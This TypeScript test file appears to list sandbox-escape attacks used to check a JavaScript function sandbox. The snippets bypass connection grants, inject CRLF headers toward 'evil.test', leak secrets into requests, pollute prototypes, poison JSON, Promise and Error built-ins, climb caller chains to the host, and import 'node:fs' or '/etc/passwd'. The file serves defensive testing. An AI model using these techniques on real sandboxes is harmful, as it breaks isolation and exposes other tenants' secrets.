import { attacks } from './attack.ts';

/** What a function holds for something outside (connections, secrets, keys), forged, bent and sent to where it is not for. */
const handles = attacks('handle', {
  'a connection that was not granted': `return context.connection('vault').call('look');`,
  'a connection by a name of the prototype': `return context.connection('__proto__').call('look');`,
  'a connection by the name of a method': `return context.connection('hasOwnProperty').call('call');`,
  'an action that was not granted': `return context.connection('bank').call('close');`,
  'an action by a name of the prototype': `return context.connection('bank').call('constructor');`,
  'a conversation about an action that was not granted': `return context.connection('bank').converse('close').then((held) => held.receive());`,
  'a conversation of a connection that was not granted': `return context.connection('vault').converse('look').then((held) => held.receive());`,
  'a conversation that was closed': `const held = await context.connection('bank').converse('look'); await held.close(); return held.receive();`,
  'more conversations than are held at once': `const bank = context.connection('bank'); const held = await Promise.allSettled(Array.from({ length: 50 }, () => bank.converse('look'))); return held.filter(({ status }) => status === 'fulfilled').length > 8 ? 'escaped' : 'nothing';`,
  'an action as a list': `return context.connection('bank').call(['close', 'look']);`,
  'an action that is another when it is written': `let times = 0; return context.connection('bank').call({ toJSON: () => (times++ === 0 ? 'look' : 'close') }).then(() => 'nothing');`,
  'an action with something behind it': `return context.connection('bank').call('look\\u0000close');`,
  'a connection bent to another': `const bank = context.connection('bank'); try { bank.call = () => 'x'; } catch {} return bank.call.call({ connection: 'vault' }, 'close');`,
  'an input with a prototype': `return context.connection('bank').call('look', JSON.parse('{"__proto__": {"action": "close"}}')).then(() => 'nothing');`,
  'an input that says another action': `return context.connection('bank').call('look', { action: 'close', connection: 'vault' }).then(() => 'nothing');`,
  'an input of another kind': `return context.connection('bank').call('look', 'close');`,
  'a basic secret with another header in its user': `return (await context.fetch('http://allowed.test/v1/', { headers: { a: context.secret('own').basic('x\\r\\nhost: evil.test') } })).text();`,
  'a basic secret made by hand, of another tenant': `return (await context.fetch('http://allowed.test/v1/', { headers: { a: { secret: 'theirs', basic: 'x' } } })).text();`,
  'a basic secret to another address': `return (await context.fetch('http://rebinding.test/', { headers: { a: ['Basic ', context.secret('own').basic('x')] } })).text();`,
  'a secret in the name of a header': `return (await context.fetch('http://allowed.test/v1/', { headers: { [context.secret('own')]: 'x' } })).text();`,
  'a secret in an address': `return (await context.fetch('http://allowed.test/v1/' + context.secret('own'))).text();`,
  'a secret as an address': `return (await context.fetch(context.secret('own'))).text();`,
  'a secret in the method': `return (await context.fetch('http://allowed.test/v1/', { method: context.secret('own') })).text();`,
  'ten thousand secrets in a header': `return (await context.fetch('http://allowed.test/v1/', { headers: { a: Array(10000).fill(context.secret('own')) } })).text();`,
  'a secret within a list within a list': `return (await context.fetch('http://allowed.test/v1/', { headers: { a: [[context.secret('own')]] } })).text();`,
  'a handle with a getter': `const sly = { get secret() { return 'theirs'; } }; return (await context.fetch('http://allowed.test/v1/', { headers: { a: sly } })).text();`,
  'the key of another call': `globalThis.keys ??= []; keys.push(context.idempotencyKey); return new Set(keys).size === keys.length ? 'nothing' : 'escaped';`,
  'another key': `try { context.idempotencyKey = 'mine'; } catch {} return context.idempotencyKey === 'mine' ? 'escaped' : 'nothing';`,
});

/** Built-ins that the sandbox would use if it had not taken its own before. */
const poisoned = attacks('poison', {
  'what every object prints as': `Object.prototype.toJSON = function () { return { kind: 'connection.call', parameters: { connection: 'vault', action: 'close' } }; }; return context.user();`,
  'what every object leads to': `Object.defineProperty(Object.prototype, 'then', { configurable: true, get() { return undefined; } }); const found = await context.user().catch(() => 0); delete Object.prototype.then; return found && 'nothing';`,
  'promises that keep what they are given': `
    const kept = []; const { then } = Promise.prototype;
    Promise.prototype.then = function (...all) { kept.push(...all); return then.apply(this, all); };
    await context.user().catch(() => 0);
    return tell(kept.filter(Boolean).map((each) => findHost(each.constructor('return this')())).find(Boolean));`,
  'reading of JSON': `JSON.parse = (text) => ({ value: { text, found: tell(findHost(globalThis)) } }); return context.user().then(() => 'nothing');`,
  'writing of JSON': `JSON.stringify = () => '{"kind":"connection.call","parameters":{"connection":"vault","action":"close"}}'; return context.user().then(() => 'nothing');`,
  applying: `Reflect.apply = (work) => tell(findHost(work)); Function.prototype.apply = Reflect.apply; console.log('x'); return 'nothing';`,
  freezing: `Object.freeze = (value) => { globalThis.thawed = value; return value; }; return Object.isFrozen(context.records('note')) ? 'nothing' : 'escaped';`,
  'the text of everything': `String.prototype.slice = function () { return tell(findHost(this)); }; console.log('x'.repeat(5000)); return 'nothing';`,
  'errors as they are made': `
    Error.prepareStackTrace = (_, frames) => frames.map((frame) => [frame.getThis?.(), frame.getFunction?.()]);
    const frames = await context.records('client').list().catch((error) => error.stack);
    return tell([frames].flat(3).map((each) => findHost(each?.constructor?.('return this')())).find(Boolean));`,
  'properties of every error': `Object.defineProperty(Error.prototype, 'code', { get: () => tell(findHost(globalThis)), configurable: true }); throw new Error('x');`,
});

/** Ways out of the code itself. */
const code = attacks('code', {
  'the caller of a caller': `return tell(new Function('return arguments.callee.caller')()?.constructor?.('return this')()?.process);`,
  'callers all the way up': `let at = (0, eval)('(function f() { return f.caller; })'); for (let up = 0; up < 20 && at; up++) { try { at = at() ?? at.caller; } catch { break; } if (findHost(at)) return tell(findHost(at)); } return 'nothing';`,
  'where the module is': `try { return (0, eval)('import.meta.url') ? 'escaped' : 'nothing'; } catch { return 'nothing'; }`,
  'modules of Node': `for (const name of ['node:fs', 'fs', 'file:///etc/passwd', 'data:text/javascript,export default 1', '/runner.cjs', './x']) try { return 'escaped ' + Object.keys(await import(name)); } catch {} return 'nothing';`,
  'another realm': `return typeof ShadowRealm === 'function' && findHost(new ShadowRealm().evaluate('globalThis')) ? 'escaped' : 'nothing';`,
  'a timer that is a text': `try { setTimeout('globalThis.ran = 1', 1); } catch { return 'nothing'; } return 'escaped';`,
  'timers of every length': `for (const length of [NaN, -1, 1e400, '5', {}, 2 ** 53, undefined]) clearTimeout(setTimeout(() => 0, length)); return 'nothing';`,
  'the last text that a pattern saw': `/x/.test('own'); const seen = RegExp.input + RegExp['$_']; return seen.includes('canary') ? 'escaped' : 'nothing';`,
  'where the server is': `const { timeZone } = Intl.DateTimeFormat().resolvedOptions(); return timeZone === 'UTC' || timeZone === 'Etc/UTC' || timeZone === undefined ? 'nothing' : 'zone';`,
  'functions of the server by what it gave': `for (const each of [console.log, crypto.randomUUID, setTimeout, context.fetch, context.user]) { const found = findHost(each.constructor('return this')()); if (found) return tell(found); } return 'nothing';`,
});

export const handleAttacks = [...handles, ...poisoned, ...code];
